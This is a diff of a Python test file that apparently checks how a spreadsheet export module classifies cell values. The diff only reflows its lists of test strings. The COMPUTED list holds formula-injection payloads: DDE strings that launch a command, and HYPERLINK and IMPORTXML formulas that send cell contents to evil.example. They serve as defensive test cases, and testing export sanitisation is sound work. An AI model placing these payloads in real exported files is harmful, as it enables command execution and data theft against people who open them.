@@ -12,22 +12,20 @@ from hypothesis import strategies as st
 from recordroom.exports.formats import cells
 
 COMPUTED = [
-    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', " =1", "\t=1", "\n=1", "\r=1",
-    "\u00a0=1", "\u200b=1", "\ufeff=1",
-    "\u202e=1", "\x00=1", "＝1+1", "＋1", "－1", "＠a", "@district", "- a list", "\ttab",
-    "+(1)", "-2+3+cmd|' /C calc'!D3", '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "\r\n=1", "%0A=1"[3:],
+    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    " =1", "\t=1", "\n=1", "\r=1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u202e=1", "\x00=1", "＝1+1", "＋1",
+    "－1", "＠a", "@district", "- a list", "\ttab", "+(1)", "-2+3+cmd|' /C calc'!D3",
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "\r\n=1", "%0A=1"[3:],
 ]  # fmt: skip
 CONVERTED = [
-    "123456789012", "109876543210987654321", "007", "00", "1.50", ".5", "1,234", "1e5", "12E10", "1/2", "1-2", "2026-11-24", "10:30",
-    "10:30 pm",
-    "50%", "$5", "$ 5.00", "5 €", "(5)", "MAR1", "Mar 1", "1 mar", "March 5, 2026", "5-May-26", "dec-2", "TRUE",
-    "false", " 007",
+    "123456789012", "109876543210987654321", "007", "00", "1.50", ".5", "1,234", "1e5", "12E10", "1/2", "1-2",
+    "2026-11-24", "10:30", "10:30 pm", "50%", "$5", "$ 5.00", "5 €", "(5)", "MAR1", "Mar 1", "1 mar",
+    "March 5, 2026", "5-May-26", "dec-2", "TRUE", "false", " 007",
 ]  # fmt: skip
 LEFT = [
-    "", "0", "5", "12345678901", "Snow day", "a=1", "x@y.example", "10 reasons to read", "May we come?", "may", "march", "5 de mayo",
-    "'twas",
-    "1 apple", "'=1", "''@a", "'007", "No. 5", "/0",
-    "#SnowDay", "https://a.example/?x=1", "mastodon:x/1", "2 of 3", "(none)\n9", "true story", "12 monkeys",
+    "", "0", "5", "12345678901", "Snow day", "a=1", "x@y.example", "10 reasons to read", "May we come?",
+    "may", "march", "5 de mayo", "'twas", "1 apple", "'=1", "''@a", "'007", "No. 5", "/0", "#SnowDay",
+    "https://a.example/?x=1", "mastodon:x/1", "2 of 3", "(none)\n9", "true story", "12 monkeys",
 ]  # fmt: skip
 
 
